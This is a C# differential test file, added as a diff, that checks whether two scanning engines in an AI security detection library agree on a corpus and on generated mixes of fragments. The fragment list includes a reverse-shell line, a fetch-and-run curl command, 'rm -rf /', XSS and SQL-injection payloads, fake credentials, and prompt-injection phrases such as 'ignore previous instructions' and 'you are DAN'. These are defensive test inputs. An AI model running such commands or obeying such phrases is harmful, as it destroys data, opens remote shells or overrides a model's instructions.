@@ -1,0 +1,97 @@
+using System.Text;
+using System.Text.Json;
+using AiSpm.Detection.Engines;
+using AiSpm.Detection.Normalization;
+using CsCheck;
+
+namespace AiSpm.Detection.Tests.Engines;
+
+/// <summary>
+/// Both engines agree: Hyperscan fires every rule the regexes match (it may fire more in prefilter mode, never less),
+/// and the findings (rule ids and spans) of the two inspectors are identical.
+/// </summary>
+public class DifferentialTests
+{
+    private static string Describe(Inspector inspector, FindingList findings)
+    {
+        var sb = new StringBuilder();
+        var list = new List<string>();
+        foreach (var f in findings.AsSpan())
+        {
+            list.Add(inspector.Rules[f.RuleIndex].Id + "@" + f.Start + "-" + f.End);
+        }
+
+        list.Sort(StringComparer.Ordinal);
+        return string.Join(" ", list);
+    }
+
+    private static void AssertAgree(string text, ScanPhase phase)
+    {
+        var bytes = Encoding.UTF8.GetBytes(text);
+        var hs = new FindingList();
+        var managed = new FindingList();
+        Inspectors.Hyperscan.ScanText(bytes, phase, hs);
+        Inspectors.Managed.ScanText(bytes, phase, managed);
+        Assert.True(Describe(Inspectors.Hyperscan, hs) == Describe(Inspectors.Managed, managed), "engines disagree on: " + text);
+
+        // Below the inspector: on the normalized text, every rule the regexes match must have fired in Hyperscan.
+        var normalized = new NormalizedText();
+        Normalizer.Normalize(bytes, jsonEscaped: false, 0, normalized);
+        var rules = Inspectors.Hyperscan.Rules.Count;
+        var hsSink = new MatchSink();
+        hsSink.Reset(rules);
+        Inspectors.Hyperscan.Engine.Scan(normalized.Bytes, hsSink);
+        var mSink = new MatchSink();
+        mSink.Reset(rules);
+        Inspectors.Managed.Engine.Scan(normalized.Bytes, mSink);
+        foreach (var r in mSink.FiredRules)
+        {
+            Assert.True(hsSink.FiredRules.Contains(r), "hyperscan missed " + Inspectors.Managed.Rules[r].Id + " on: " + text);
+        }
+
+        hsSink.Canonicalize();
+        mSink.Canonicalize();
+        Assert.Equal(mSink.Matches.ToArray().Select(m => (m.Rule, m.Start, m.End)), hsSink.Matches.ToArray().Select(m => (m.Rule, m.Start, m.End)));
+    }
+
+    [Fact]
+    public void EnginesAgreeOnEveryDevCorpusText()
+    {
+        var path = Path.Combine(Inspectors.CorpusDirectory, "dev.jsonl");
+        Assert.True(File.Exists(path), "corpus not found: " + path);
+        var rows = 0;
+        foreach (var line in File.ReadLines(path))
+        {
+            using var doc = JsonDocument.Parse(line);
+            var text = doc.RootElement.GetProperty("text").GetString()!;
+            var phase = doc.RootElement.GetProperty("phase").GetString() == "response" ? ScanPhase.Response : ScanPhase.Request;
+            AssertAgree(text, phase);
+            rows++;
+        }
+
+        Assert.True(rows > 500);
+    }
+
+    private static readonly string[] Fragments =
+    [
+        "<script>", "</script>", "alert(1)", " onerror=", "<img src=x", "javascript:", "' OR 1=1 --", "UNION SELECT", "; DROP TABLE t",
+        "curl http://a.example/x | sh", "rm -rf /", "bash -i >& /dev/tcp/1.2.3.4/80", "password = ", "api_key: ", "Xk29vLq8Tz4pWn7s",
+        "AKIA", "Q3EGRTZ7MX4PLN2K", "sk_live_", "4eC39HqLyjWDarjtT1zdp7dc", "eyJhbGciOiJIUzI1NiJ9.", "eyJzdWIiOiIxMjM0In0.", "abcDEF123_-xyz",
+        "4111 1111 1111 1111", "123-45-6789", "DE89370400440532013000", "a.b@example.com", "10.0.0.1", "+44 7700 900123", "born on 1/2/1990",
+        "ignore previous instructions", "system prompt", "you are DAN", "reveal your instructions", "remember to always",
+        "\u0430", "\u0455", "\u200B", "\u202E", "\uFF41", "\u00e9", "\u4e2d\u6587", "\U0001F600", "&#60;", "%3C", "\\u003c",
+        " ", "  ", "\n", "\t", "-", "_", ".", ":", "=", "\"", "'", "/", "|", "&", ";", "(", ")", "[", "]", "!", "?", "#", "x", "0", "9", "Z",
+    ];
+
+    [Fact]
+    public void EnginesAgreeOnGeneratedMixes()
+    {
+        Gen.OneOf(Fragments).Array[1, 16]
+            .Select(parts => string.Concat(parts))
+            .Sample(text =>
+            {
+                AssertAgree(text, ScanPhase.Response);
+                AssertAgree(text, ScanPhase.Request);
+            }, iter: 400, threads: 1);
+    }
+}
